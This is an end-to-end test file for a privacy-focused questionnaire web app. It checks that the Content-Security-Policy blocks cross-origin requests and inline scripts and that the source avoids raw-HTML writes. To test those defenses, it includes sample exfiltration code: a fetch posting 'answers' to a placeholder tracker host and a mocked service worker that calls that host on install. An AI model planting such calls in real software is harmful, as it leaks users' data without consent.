import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { publicVignette } from '../helpers/vignettes';
import { answerThroughPage } from './support/answer-through-page';
import { useBuiltAppInChromium } from './support/built-app';
import { waitForServiceWorkerControl } from './support/service-worker';

const vignette = publicVignette('doms-classic');
const built = useBuiltAppInChromium();

describe('nothing leaves the device', () => {
  it('a whole questionnaire, with the service worker on, asks nothing of another origin and breaks no Content-Security-Policy rule', async () => {
    const watched = await built.openPage();
    try {
      const { page } = watched;
      await waitForServiceWorkerControl(page);
      expect(await answerThroughPage(page, vignette.answers)).toBe(vignette.expect.disposition);
      await page.reload();
      await page.locator('main [data-disposition]').waitFor();
      expect(watched.problems).toEqual([]);
    } finally {
      await watched.close();
    }
  }, 180_000);

  it('the page cannot send anything to another origin: the policy refuses before the request is made', async () => {
    const watched = await built.openPage();
    try {
      const sent = await watched.page.evaluate(() =>
        fetch('https://tracker.example/collect', { method: 'POST', body: 'answers' }).then(
          () => 'sent',
          () => 'refused',
        ),
      );
      expect(sent).toBe('refused');
      expect(watched.problems.join('\n')).toMatch(
        /console error: .*violates the following Content Security Policy directive.*connect-src 'self'/,
      );
      expect(watched.problems.join('\n')).not.toMatch(/request to another origin/);
    } finally {
      await watched.close();
    }
  });
});

describe('the watch that the end-to-end tests keep', () => {
  it('catches a service worker asking another origin', async () => {
    const watched = await built.openPage();
    try {
      const { page } = watched;
      await page.context().route(`${built.origin}/phones-home.js`, (route) =>
        route.fulfill({
          contentType: 'text/javascript',
          body: "self.addEventListener('install', (event) => event.waitUntil(fetch('https://tracker.example/collect').catch(() => {})));",
        }),
      );
      await page.evaluate(() => navigator.serviceWorker.register('/phones-home.js', { scope: '/phones-home/' }));
      await expect.poll(() => watched.problems).toContain('request to another origin: https://tracker.example/collect');
    } finally {
      await watched.close();
    }
  });

  it('reports a Content-Security-Policy violation as a console error, and the policy blocks inline scripts', async () => {
    const watched = await built.openPage();
    try {
      const { page } = watched;
      const ran = await page.evaluate(() => {
        const script = document.createElement('script');
        script.textContent = 'document.body.dataset.inlineScriptRan = "yes"';
        document.head.append(script);
        return document.body.dataset.inlineScriptRan === 'yes';
      });
      expect(ran).toBe(false);
      expect(watched.problems.join('\n')).toMatch(
        /console error: .*violates the following Content Security Policy directive.*script-src 'self'/,
      );
    } finally {
      await watched.close();
    }
  });
});

describe('the source', () => {
  const srcDir = join(import.meta.dirname, '..', '..', 'src');
  const sourceFiles = readdirSync(srcDir, { recursive: true, encoding: 'utf8' }).filter((file) => /\.(ts|tsx)$/.test(file));

  it('never writes raw HTML into the page', () => {
    const rawHtml = /dangerouslySetInnerHTML|\.innerHTML|\.outerHTML|insertAdjacentHTML|document\.write/;
    expect(sourceFiles.length).toBeGreaterThan(0);
    expect(sourceFiles.filter((file) => rawHtml.test(readFileSync(join(srcDir, file), 'utf8')))).toEqual([]);
  });
});
